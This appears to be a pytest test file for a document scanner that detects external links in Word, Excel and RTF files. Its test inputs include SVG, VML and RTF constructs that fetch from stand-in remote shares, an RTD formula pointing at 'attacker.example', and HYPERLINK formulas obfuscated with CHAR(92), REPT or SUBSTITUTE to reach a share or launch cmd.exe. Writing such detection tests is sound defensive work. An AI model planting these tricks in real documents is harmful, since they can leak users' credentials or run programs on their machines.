        '<style>svg{--u:"//h.example/s/p.png";background-image:image-set(var(--u) 1x)}</style>',
        "<style>@media all { a { cursor: image('\\5c\\5c h.example\\5c s\\5c c.png') } }</style>",
        # an animation that sets an address
        '<image width="9" height="9" href="data:,"><set attributeName="href" '
        'to="\\\\h.example\\s\\p.png" begin="0s"/></image>',
        '<image width="9" height="9"><animate attributeName="xlink:href" '
        'values="p.png;//h.example/s/p.png" dur="1s"/></image>',
        # XHTML's other address attributes in a foreignObject
        '<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" '
        'srcset="small.png 1x, //h.example/s/p.png 2x"/></foreignObject>',
        '<foreignObject width="9" height="9"><video xmlns="http://www.w3.org/1999/xhtml" '
        'poster="\\\\h.example\\s\\p.png"/></foreignObject>',
        '<foreignObject width="9" height="9"><object xmlns="http://www.w3.org/1999/xhtml" '
        'data="\\\\h.example\\s\\p.png" type="image/png"/></foreignObject>',
        # a help file on a share, through a URL moniker
        '<image width="9" height="9" href="mk:@MSITStore:\\\\h.example\\s\\x.chm::/p.png"/>',
    ],
    ids=[
        "image-set",
        "custom-property",
        "image-escaped",
        "set-href",
        "animate-values",
        "srcset",
        "poster",
        "object-data",
        "help-file",
    ],
)
def test_more_addresses_in_an_svg_picture(inner: str, policy: Policy) -> None:
    assert _codes(_svg_with_doctype(_ILLUSTRATOR, inner), "letter.docx", policy) == [
        "EXTERNAL_LINK"
    ]


def test_an_svg_picture_typed_as_another_picture_is_read_as_svg(policy: Policy) -> None:
    # typed image/png (no SVG type declared): the part is still an SVG document, read as one
    sheet = '<?xml-stylesheet type="text/css" href="file://h.example/s/x.css"?>'
    inner = '<rect width="9" height="9"/>'
    svg = f'{sheet}<svg xmlns="{SVG}" viewBox="0 0 10 10">{inner}</svg>'.encode()
    letter = docx(rels=[("image", "media/image1.png", False)], parts={"word/media/image1.png": svg})
    assert _codes(letter, "letter.docx", policy) == ["EXTERNAL_LINK"]
    plain = f'<svg xmlns="{SVG}" viewBox="0 0 10 10">{inner}</svg>'.encode()
    honest = docx(
        rels=[("image", "media/image1.png", False)], parts={"word/media/image1.png": plain}
    )
    assert "EXTERNAL_LINK" not in _codes(honest, "letter.docx", policy)


def test_a_vml_drawing_under_another_namespace(policy: Policy) -> None:
    # the "v" prefix bound to another namespace: a reader that goes by prefixes takes it for VML
    drawing = (
        f'<xml xmlns:v="urn:schemas-microsoft-com:vml2" xmlns:o="{OFFICE}">'
        '<v:shape id="_x0000_s1025" type="#_x0000_t202" style="width:100pt;height:60pt">'
        f'<v:fill type="frame" o:href={quoteattr(SHARE)}/></v:shape></xml>'
    ).encode()
    data = _replaced(_vml_in_workbook(""), {"xl/drawings/vmlDrawing1.vml": drawing})
    assert _codes(data, "book.xlsx", policy) == ["EXTERNAL_LINK"]


@pytest.mark.parametrize("flags", [b"000000000010", b"+10", b"-2147483638", b"ten"])
def test_rtf_picture_flags_as_word_reads_a_number(flags: bytes, policy: Policy) -> None:
    data = _rtf_shape(b"fillBlipName", _RTF_SHARE, flags)
    assert _codes(data, "letter.rtf", policy) == ["EXTERNAL_LINK"]


def test_rtd_from_another_machine_in_a_workbook(policy: Policy) -> None:
    data = _cell('RTD("Vendor.RtdServer","attacker.example","price")')
    assert _codes(data, "book.xlsx", policy) == ["EXTERNAL_LINK"]
    assert _codes(_cell('RTD("tos.rtd",,"LAST","AAPL")'), "book.xlsx", policy) == []


def test_a_fetching_function_passed_by_name(policy: Policy) -> None:
    assert fetches("_xlfn.MAP(A1:A3,_xleta.WEBSERVICE)")
    assert fetches("_xlfn.BYROW(A1:A3,_xleta.IMAGE)")
    data = _cell("_xlfn.MAP(A1:A3,_xleta.WEBSERVICE)")
    assert _codes(data, "book.xlsx", policy) == ["EXTERNAL_LINK"]


@pytest.mark.parametrize(
    ("formula", "share"),
    [
        ('HYPERLINK(("\\\\h.example\\s\\x.xls"))', True),
        ('HYPERLINK(TRIM("\\\\h.example\\s\\x.xls"),"Open")', True),
        ('HYPERLINK("\\" & "\\h.example\\s\\x.xls")', True),
        ('HYPERLINK("\\\\" & LOWER("H.example\\s"))', True),
        ('IF(A1,HYPERLINK("#A1"),HYPERLINK(IF(B1,"\\\\h.example\\s","x")))', True),
        ('HYPERLINK("https://example.com","\\\\h.example\\s")', False),  # shown, not opened
        ('HYPERLINK("\\" & A1 & "\\h.example\\s")', False),  # a cell between: not joined
        ("HYPERLINK(B1)", False),  # an address in a cell is not followed
        ('"HYPERLINK(""\\\\h.example\\s"")"', False),  # text
        ('HYPERLINK("https://example.com/" & "page")', False),
        # a share's \\ made by calls on constants (a red team's workbooks were approved)
        ('HYPERLINK(CHAR(92)&CHAR(92)&"h.example\\s\\x.pdf","Open")', True),
        ('HYPERLINK(_xlfn.UNICHAR(92)&UNICHAR(92)&"h.example\\s")', True),
        ('HYPERLINK(REPT("\\",2)&"h.example\\s")', True),
        ('HYPERLINK(CONCATENATE("\\","\\h.example\\s"))', True),
        ('HYPERLINK(_xlfn.CONCAT(REPT(CHAR(92),2),"h.example\\s"))', True),
        ('HYPERLINK("https://example.com/?q="&CHAR(65))', False),
        ('HYPERLINK(CHAR(104)&"ttps://example.com/")', False),
        ('HYPERLINK(CHAR(0)&CHAR(92)&"h.example\\s")', True),  # an unfolded CHAR: computed
        ('HYPERLINK(MID("a\\\\h.example\\s\\x.pdf",2,99))', True),  # a review's cases
        ('HYPERLINK(CHAR(91+1)&CHAR(92)&"h.example\\s")', True),
        ('HYPERLINK(SUBSTITUTE("__h.example_s","_","\\"))', True),
        ('HYPERLINK(_xlfn.TEXTJOIN("",TRUE,"\\","\\h.example\\s"))', True),
        ('HYPERLINK("https://example.com/"&LOWER(A1))', False),
        ('HYPERLINK(CONCATENATE("https://example.com/?q=",A1))', False),
        # a local program: as a literal, or a file URL a text call makes (red team 108)
        ('HYPERLINK("C:\\Windows\\System32\\cmd.exe")', True),
        ('HYPERLINK(SUBSTITUTE("file:///C:/Windows/System32/calc.txt","txt","exe"))', True),
        ('HYPERLINK(_xlfn.TEXTJOIN(".",TRUE,"file:///C:/Windows/System32/calc","exe"))', True),
        ('HYPERLINK("C:\\Reports\\q1.xlsx")', False),
    ],
)
def test_hyperlink_first_argument_however_spelt(formula: str, share: bool) -> None:
    assert harmful_hyperlink(formula) is share


@pytest.mark.parametrize(
    ("place", "server"),
    [
        ("SQL01", True),
        ("db.example.com,1433", True),
        ("tcp:db.example.com", True),
        ("SQL01\\REPORTS", True),
        (".", False),
        ("(local)", False),
        ("localhost\\SQLEXPRESS", False),
        ("(localdb)\\MSSQLLocalDB", False),
        ("C:\\Data\\orders.accdb", False),
        ("orders.xlsx", False),
        ("", False),
    ],
)
def test_a_database_server_is_told_from_a_file_and_this_computer(place: str, server: bool) -> None:
    assert database_server(place) is server
